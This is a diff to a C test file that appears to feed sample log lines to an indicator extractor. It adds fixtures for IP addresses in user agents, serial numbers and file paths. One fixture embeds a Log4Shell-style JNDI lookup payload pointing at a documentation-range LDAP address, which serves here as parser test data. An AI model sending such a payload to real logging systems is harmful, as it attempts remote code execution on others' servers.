@@ -74,6 +74,14 @@ static const char lines[] =
     "(x)\\\","
     "\\\"u\\\":\\\"http:\\\\/\\\\/evil.example\\\\/x\\\"}\"\n"
     "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"userAgent\":\"[kit/1.0 (x)]\"}\n"
+    /* addresses in user agents and behind names; a serial number, a user agent and a path in texts */
+    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"user_agent\":\"${jndi:ldap:\\/\\/203.0.113.5:1389\\/a} x/203.0.113.5 "
+    "y\"}\n"
+    "2023-11-12T10:00:00Z Alice/203.0.113.5:1194 peer info: IV_VER=2 Alice/203.0.113.5\n"
+    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"message\":\"serial number: 0A:1B:2C, x\",\"a\":\"id 0A:1B:2C\"}\n"
+    "<134>Nov 12 10:00:00 h app: {\"h\":[{\"name\":\"User-Agent\",\"value\":\"kit/1.0 (x) \"}],"
+    "\"file_path\":\"/opt//Evil/run7\"}\n"
+    "{\"timestamp\":\"2023-11-12T10:00:00Z\",\"h\":[{\"Name\":\"User-Agent\",\"Value\":\"kit/1.0 (x)\"}]}\n"
     /* JSON in strings of JSON */
     "{\"log\":\"{\\\"timestamp\\\":\\\"2023-11-12T10:00:00Z\\\",\\\"version\\\":\\\"203.0.113.5\\\",\\\"file\\\":"
     "{\\\"path\\\":\\\"C:\\\\\\\\x\\\\\\\\evil tool.exe\\\"},\\\"u\\\":\\\"http:\\\\/\\\\/"
@@ -157,6 +165,7 @@ static const struct {
 	{ AC_VALUE_AS_NUMBER, "AS64500" },
 	{ AC_VALUE_URL, "http://inner.example/a?b=1&c=2" },
 	{ AC_VALUE_USER_AGENT, "kit \"q\" 2.0" },
+	{ AC_VALUE_FILE_PATH, "/opt/Evil/run7" },
 };
 
 typedef struct told {
